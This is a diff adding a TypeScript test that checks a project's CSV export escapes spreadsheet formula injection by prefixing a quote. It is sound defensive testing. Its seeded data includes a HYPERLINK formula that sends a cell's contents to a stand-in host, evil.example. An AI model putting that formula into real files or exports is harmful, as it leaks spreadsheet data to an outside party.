@@ -46,6 +46,23 @@ function parseCsv(text: string): string[][] {
 const CSV = 'query($key: ID!, $phase: Phase!) { project(key: $key) { csv(phase: $phase) { filename content } } }';
 
 describe('CSV of a phase', () => {
+  it('keeps text that a spreadsheet would run as a formula as text (a leading quote)', async () => {
+    const p = await createProject(app.db, { org: w.org, owner: w.owner.user });
+    const [first] = questionsFor('fel2');
+    if (!first) throw new Error('empty bank');
+    await seedAnswers(app.db, {
+      projectId: p.id,
+      phase: 'fel2',
+      questions: [first],
+      extra: () => ({ comment: '=HYPERLINK("http://evil.example/?x="&A1,"click")', evidence: '@SUM(1+1)', actionOwner: '+44 20 7946 0000' }),
+    });
+    const res = await w.owner.client.graphql(CSV, { key: p.id, phase: 'fel2' });
+    const row = parseCsv(pickString(res.data, 'project.csv.content'))[1] ?? [];
+    expect(row[6]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
+    expect(row[7]).toBe(`'@SUM(1+1)`);
+    expect(row[9]).toBe(`'+44 20 7946 0000`);
+  });
+
   it('has the columns of the issue and one row per question, in bank order, with the answers', async () => {
     const p = await createProject(app.db, { org: w.org, owner: w.owner.user, name: 'Cooling water, "phase 2"' });
     const fel2 = questionsFor('fel2');
